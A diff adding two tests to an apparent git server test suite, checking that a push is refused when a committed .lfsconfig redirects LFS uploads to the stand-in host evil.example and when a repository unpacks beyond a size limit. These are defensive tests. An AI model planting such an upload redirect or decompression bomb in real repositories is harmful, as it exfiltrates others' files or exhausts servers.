@@ -169,3 +169,26 @@ def test_a_hook_that_cannot_run_takes_nothing_in(plane, clone):
     assert versions(plane, "unhooked") == 1
     here.run("push")
     assert versions(plane, "unhooked") == 2
+
+
+def test_a_configuration_that_sends_the_uploads_of_others_elsewhere(plane, clone):
+    here = clone("elsewhere")
+    here.write(".lfsconfig", b"[lfs]\n\turl = https://evil.example/lfs\n")
+    here.commit()
+    own = {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "lfs.url"}
+    address = here.run("remote", "get-url", "origin").strip() + "/info/lfs"
+    said = here.run("push", status=1, **own, GIT_CONFIG_VALUE_0=address)
+    assert ".lfsconfig sets lfs.url to https://evil.example/lfs" in said
+    assert "git config -f .lfsconfig --unset lfs.url" in said
+    assert versions(plane, "elsewhere") == 1
+
+
+def test_a_push_that_unpacks_to_more_than_the_limit(small_plane, client):
+    scheme, _, rest = small_plane.facts()["address"].partition("://")
+    client.run("init", "bomb")
+    client.at = client.at / "bomb"
+    client.write("zeros.bin", bytes(3 << 20))
+    client.commit()
+    said = client.run("push", f"{scheme}://git:{small_plane.token}@{rest}/git/demo/bomb.git", "main", status=1)
+    assert "when they are unpacked" in said
+    assert "GIT_UNPACKED_LIMIT_BYTES" in said
